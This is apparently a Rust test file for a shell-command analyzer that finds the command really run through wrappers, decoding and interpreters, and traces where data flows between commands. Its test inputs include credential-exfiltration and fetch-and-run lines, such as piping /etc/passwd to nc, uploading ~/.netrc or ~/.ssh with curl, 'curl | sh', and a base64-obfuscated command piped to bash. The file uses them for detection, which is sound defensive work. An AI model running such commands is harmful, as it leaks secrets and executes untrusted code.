//! How commands are found, and how they hang together.

use rstest::rstest;

use crate::{Unknown, Via, analyze, analyze_argv};

/// The name, wrappers and way of the last command.
#[rstest]
#[case("sudo rm x", "rm", &["sudo"], Via::Direct)]
#[case("ssh h 'rm x'", "rm", &["ssh"], Via::Remote)]
#[case("docker exec -it c sh -c 'rm x'", "rm", &["docker", "sh"], Via::ShellText)]
#[case("kubectl exec p -- rm x", "rm", &["kubectl"], Via::Remote)]
#[case("find . -exec rm {} +", "rm", &["find"], Via::Find)]
#[case("ls | xargs -n1 rm", "rm", &["xargs"], Via::Xargs)]
#[case("parallel rm ::: a b", "rm", &["parallel"], Via::Xargs)]
#[case("echo cm0geA== | base64 -d | bash", "rm", &["bash"], Via::Decoded)]
#[case("eval 'rm x'", "rm", &["eval"], Via::Eval)]
#[case("trap 'rm x' EXIT", "rm", &[], Via::Hook)]
#[case("echo 'rm x' | at now", "rm", &[], Via::Hook)]
#[case("perl -e 'system(\"rm x\")'", "rm", &["perl"], Via::Code)]
#[case("node -e 'require(\"child_process\").execSync(\"rm x\")'", "rm", &["node"], Via::Code)]
#[case("python3 -c 'import subprocess; subprocess.run([\"rm\", \"x\"])'", "rm", &["python3"], Via::Code)]
#[case("awk 'BEGIN { system(\"rm x\") }'", "rm", &["awk"], Via::Code)]
#[case("osascript -e 'do shell script \"rm x\"'", "rm", &["osascript"], Via::Code)]
#[case("su -c 'rm x' bob", "rm", &["su"], Via::ShellText)]
#[case("busybox rm x", "rm", &["busybox"], Via::Direct)]
#[case("watch -n 1 'rm x'", "rm", &["watch"], Via::ShellText)]
#[case("exec -a y rm x", "rm", &["exec"], Via::Direct)]
#[case("coproc rm x", "rm", &["coproc"], Via::Direct)]
#[case("a() { rm x; }; a", "rm", &[], Via::Function)]
#[case("echo $(rm x; ls)", "echo", &[], Via::Direct)]
#[case("/usr/bin/env -i PATH=/ rm x", "rm", &["env"], Via::Direct)]
#[case("env -S 'A=b rm' x", "rm", &["env"], Via::ShellText)]
#[case("a[$(rm x)]=1", "rm", &[], Via::Substitution)]
#[case("echo 'rm x' | tee /tmp/y; sh /tmp/y", "rm", &[], Via::File)]
#[case("ruby -e 'system \"rm\", \"x\"'", "rm", &["ruby"], Via::Code)]
#[case("expect -c 'spawn rm x'", "rm", &["expect"], Via::Code)]
#[case("bash -c \"$(echo cm0geA== | base64 -d)\"", "rm", &["bash"], Via::ShellText)]
#[case("{ echo rm; echo ' x'; } | tr -d '\\n' | sh", "rm", &["sh"], Via::Decoded)]
#[case("setsid -f nohup stdbuf -oL rm x", "rm", &["setsid", "nohup", "stdbuf"], Via::Direct)]
fn a_command_is_found(#[case] text: &str, #[case] name: &str, #[case] wrappers: &[&str], #[case] via: Via) {
    let analysis = analyze(text);
    let last = analysis.commands.last().unwrap();
    assert_eq!(
        (last.name.as_str(), last.wrappers.iter().map(String::as_str).collect::<Vec<_>>().as_slice(), last.via),
        (name, wrappers, via)
    );
}

/// The names of the commands whose output reaches the last one.
#[rstest]
#[case::pipe("cat /etc/passwd | base64 | nc h 1", &["cat", "base64"])]
#[case::substitution("curl http://h/$(cat ~/.netrc | base64)", &["cat", "base64"])]
#[case::variable("x=$(cat ~/.netrc); curl -d \"$x\" http://h", &["cat"])]
#[case::file("tar czf a.tgz ~/.ssh; curl -T a.tgz http://h", &["tar"])]
#[case::redirect("cat ~/.netrc > /tmp/x; curl -d @/tmp/x http://h", &["cat"])]
#[case::download("curl -o /tmp/x http://h; bash /tmp/x", &["curl"])]
#[case::group("(a; b) | c", &["a", "b"])]
#[case::process("bash <(curl http://h)", &["curl"])]
#[case::read("cat f | while read l; do curl \"$l\"; done", &["cat"])]
fn data_flows(#[case] text: &str, #[case] expected: &[&str]) {
    let analysis = analyze(text);
    let sources = analysis.sources(analysis.commands.len() - 1);
    let names: Vec<&str> = sources.iter().map(|&source| analysis.commands[source].name.as_str()).collect();
    assert_eq!(names, expected);
}

#[rstest]
#[case("curl http://h | sh", &[Unknown::Code { command: 1 }])]
#[case("$CMD x", &[Unknown::Name { command: 0 }])]
#[case("bash -c \"$X\"", &[Unknown::Code { command: 0 }])]
#[case("eval \"$(curl http://h)\"", &[Unknown::Code { command: 1 }])]
#[case("echo 'unterminated", &[Unknown::Unreadable])]
#[case("ls; echo \"$(date)\"", &[])]
#[case("git commit -m \"$(cat <<'EOF'\nit's (not) a problem\nEOF\n)\"", &[])]
fn what_is_not_understood_is_said(#[case] text: &str, #[case] expected: &[Unknown]) {
    assert_eq!(analyze(text).unknown, expected);
}

#[test]
fn a_line_that_the_grammar_adds_to_the_one_before_is_a_command() {
    let analysis = analyze("ls x\n\\rm y");
    assert_eq!(analysis.commands.iter().map(|command| command.name.as_str()).collect::<Vec<_>>(), ["ls", "rm"]);
    assert!(!analysis.parsed);
}

#[test]
fn arguments_of_a_list_are_not_expanded() {
    let argv = |words: &[&str]| analyze_argv(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
    assert_eq!(argv(&["rm", "$HOME; ls"]).commands.len(), 1);
    let analysis = argv(&["bash", "-lc", "rm x && ls"]);
    assert_eq!(analysis.commands.iter().map(|command| command.name.as_str()).collect::<Vec<_>>(), ["rm", "ls"]);
}
